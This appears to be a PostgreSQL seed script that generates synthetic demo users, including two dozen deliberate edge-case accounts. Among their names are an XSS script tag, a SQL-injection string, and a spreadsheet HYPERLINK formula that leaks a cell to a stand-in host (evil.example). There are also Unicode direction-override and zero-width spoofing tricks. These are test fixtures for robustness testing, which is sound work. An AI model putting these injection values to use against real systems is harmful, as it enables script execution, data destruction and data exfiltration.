-- The users: two dozen that a newcomer or a test looks for, and a believable crowd around them.
create table demo.special (
  n bigint, name text, email text, tier text, status text, role text, country text, age interval, idle interval,
  status_reason text, view_as_refused boolean, plain boolean
);
insert into demo.special values
  -- Names and addresses that break careless software. All but the eleventh have an ordinary life behind them.
  (1, '<script>alert(1)</script>', 'script@example.com', 'free', 'active', 'member', 'US', '410 days', '2 days', null, false, true),
  (2, repeat('Wolfeschlegelsteinhausenbergerdorff', 8) || 'Wolfeschlegelsteinha',
    'long.name@example.org', 'pro', 'active', 'creator', 'DE', '380 days', '5 hours', null, false, true),
  (3, 'سامي ' || chr(8238) || 'gnp.tnemyap' || chr(8236) || ' Sami', 'rtl@example.net', 'starter', 'active', 'member', 'EG', '340 days', '1 day', null, false, true),
  (4, 'Ad' || chr(8203) || 'mi' || chr(8204) || 'n' || chr(65279) || ' Sup' || chr(8205) || 'port', 'zero.width@example.com', 'free', 'suspended', 'member', 'GB',
    '90 days', '30 days', 'Posed as our support team in comments.', false, true),
  (5, ''';drop table users;--', 'bobby.tables@example.com', 'starter', 'active', 'member', 'CA', '300 days', '9 hours', null, false, true),
  (6, '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")', 'formula@example.com', 'free', 'active', 'member', 'NL', '260 days', '3 days', null, false, true),
  (7, '👨‍👩‍👧‍👦 👩🏽‍🚀 🏳️‍🌈 family', 'emoji.family@example.org', 'pro', 'active', 'creator', 'JP', '220 days', '40 minutes', null, false, true),
  (8, chr(10240) || chr(12644) || chr(10240), 'blank@example.net', 'free', 'active', 'member', 'KR', '180 days', '12 days', null, false, true),
  (9, 'Penelope Longwords', 'long.prompt@example.com', 'pro', 'active', 'creator', 'GB', '240 days', '2 hours', null, false, true),
  (10, 'Moby Whale', 'whale@example.com', 'pro', 'active', 'creator', 'US', '700 days', '4 minutes', null, false, false),
  (11, 'Nemo Nothing', 'nothing@example.org', 'free', 'active', 'member', 'AT', '33 days', '33 days', null, false, false),
  (12, 'Greta Grenzstein', 'no.peeking@example.org', 'pro', 'active', 'member', 'DE', '500 days', '3 hours', null, true, true),
  (13, 'Zero Zimmerman', 'zero.credits@example.com', 'free', 'active', 'member', 'US', '120 days', '1 hour', null, false, true),
  -- Stories: somebody has a problem, and everything needed to find it out is there.
  (14, 'Nora Lindqvist', 'nora.lindqvist@example.com', 'pro', 'active', 'creator', 'SE', '427 days', '50 minutes', null, false, true),
  (15, 'Tomás Ferreira', 'tomas.ferreira@example.org', 'starter', 'active', 'creator', 'PT', '250 days', '2 hours', null, false, true),
  (16, '田中 愛子', 'aiko.tanaka@example.net', 'pro', 'active', 'creator', 'JP', '330 days', '20 minutes', null, false, true),
  (17, 'Sam Whitfield', 'sam.whitfield@example.com', 'starter', 'active', 'member', 'GB', '12 days', '6 hours', null, false, true),
  (18, 'ليلى حداد', 'leila.haddad@example.org', 'starter', 'active', 'member', 'AE', '200 days', '5 hours', null, false, true),
  (19, 'Ivo Kovařík', 'ivo.kovarik@example.com', 'pro', 'active', 'creator', 'CZ', '610 days', '1 day', null, false, true),
  (20, 'Dana Cross', 'dana.cross@example.com', 'pro', 'suspended', 'creator', 'US', '290 days', '8 days',
    'Uploaded pictures of a person who did not agree (case 2291); appeal received.', false, true),
  (21, 'Olu Adeyemi', 'olu.adeyemi@example.org', 'free', 'active', 'member', 'GB', '170 days', '7 hours', null, false, true),
  (22, 'Meera Joshi', 'meera.joshi@example.net', 'pro', 'active', 'moderator', 'IN', '800 days', '15 minutes', null, true, true),
  (23, 'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘', 'zalgo@example.net', 'free', 'active', 'member', 'IE', '60 days', '20 days', null, false, true),
  (24, 'Longinus Mailbox', repeat('very.', 38) || 'long+tag/with_marks@' || repeat('sub.', 8) || 'example.com', 'free', 'active', 'member', 'FR', '75 days', '11 days', null, false, true);

-- Sign-ups grow: half of all users came in the last third of three years. Those who pay are seen more lately.
create table demo.person as
select d.n, demo.id(d.created_at, d.n, 1) as id, d.created_at,
  coalesce(d.created_at + (d.changed_at - d.created_at) * demo.u(d.n, 5),
    demo.clock() - coalesce(d.idle, d.age * power(demo.u(d.n, 5), case d.tier when 'free' then 1.8 else 3.0 end))) as last_active_at,
  d.tier, d.status, d.role, d.country, d.changed_at, d.n <= 20000 as heavy, d.plain, d.special, d.place_seat, d.name, d.email
from (
  select c.*, case when c.status = 'active' then null when c.idle is not null then demo.clock() - c.idle
      else c.created_at + c.age * (0.2 + 0.8 * demo.u(c.n, 6)) end as changed_at
  from (
    select b.*,
      coalesce(b.own_tier, case when b.status = 'deleted' or demo.u(b.n, 3) < 0.773 then 'free' when demo.u(b.n, 3) < 0.927 then 'starter' else 'pro' end) as tier,
      coalesce(b.own_role, case when demo.u(b.n, 4) < 0.0005 then 'moderator' when demo.u(b.n, 4) < 0.0305 then 'creator' else 'member' end) as role
    from (
      select a.n, a.age, demo.clock() - a.age as created_at, s.idle, s.tier as own_tier, s.role as own_role, s.country, s.name, s.email,
        coalesce(s.plain, true) as plain, s.n is not null as special, (demo.h(a.n, 7) % 1000)::int as place_seat,
        coalesce(s.status, case when demo.u(a.n, 2) < 0.02 then 'deleted' when demo.u(a.n, 2) < 0.03 then 'suspended' else 'active' end) as status
      from (
        select g.n, coalesce(x.age, interval '1095 days' * (1 - power((g.n - demo.u(g.n, 8)) / demo.people(), 0.55))) as age
        from generate_series(1, demo.people()) as g (n) left join demo.special x using (n)
      ) a left join demo.special s using (n)
    ) b
  ) c
) d;
alter table demo.person add primary key (n);
create unique index on demo.person (id);
analyze demo.person;

insert into platform.users (id, email, name, tier, status, role, country, locale, time_zone, created_at, last_active_at,
  status_reason, status_changed_at, marketing_consent, view_as_refused, password_hash)
select p.id,
  coalesce(p.email, case demo.h(p.n, 10) % 5
      when 0 then left(g.latin, 1) || s.latin when 1 then g.latin || '_' || s.latin when 2 then s.latin || '.' || g.latin else g.latin || '.' || s.latin end
    || p.n || '@' || demo.pick('{example.com,example.com,example.com,example.org,example.net,inbox.example,post.example,studio.example,campus.example,mail.test}', demo.h(p.n, 11))),
  coalesce(p.name, case
      when t.family in ('zh', 'ko') then s.name || g.name
      when t.family in ('ja', 'vi') then s.name || ' ' || g.name
      when t.family = 'en' and demo.u(p.n, 14) < 0.3 then g.name || ' ' || chr(65 + (demo.h(p.n, 15) % 26)::int) || '. ' || s.name
      when t.family = 'es' and demo.u(p.n, 14) < 0.4 then g.name || ' ' || s.name || ' ' || s2.name
      else g.name || ' ' || s.name end),
  p.tier, p.status, p.role, coalesce(p.country, t.country), coalesce(own.locale, t.locale), coalesce(own.time_zone, t.time_zone), p.created_at, p.last_active_at,
  coalesce(x.status_reason, case p.status
      when 'suspended' then demo.pick(array['Charge-back on three payments; waiting for the bank.', 'Made pictures of a real person without consent.',
        'Shared account: 14 devices in 9 countries in a day.', 'Repeated attempts to get around the content filter.', 'Asked to be locked out while their e-mail account is recovered.',
        'Sold trial accounts.', 'Training set with copyrighted film stills; rights holder wrote.'], demo.h(p.n, 16))
      when 'deleted' then demo.pick(array['Closed by the user.', 'Closed by the user: too expensive.', 'Closed by the user: uses another product.',
        'Erasure request.', 'Duplicate of another account.', 'Closed by the user.'], demo.h(p.n, 16)) end),
  p.changed_at, demo.u(p.n, 17) < 0.42, coalesce(x.view_as_refused, demo.u(p.n, 18) < 0.03), '!'
from demo.person p
join demo.seat t on t.seat = p.place_seat
join demo.family_size z on z.family = t.family
join demo.given_name g on g.family = t.family and g.i = demo.h(p.n, 12) % z.given
join demo.surname s on s.family = t.family and s.i = demo.h(p.n, 13) % z.surnames
join demo.surname s2 on s2.family = t.family and s2.i = demo.h(p.n, 19) % z.surnames
left join demo.special x on x.n = p.n
left join demo.home own on own.country = p.country
order by p.n;
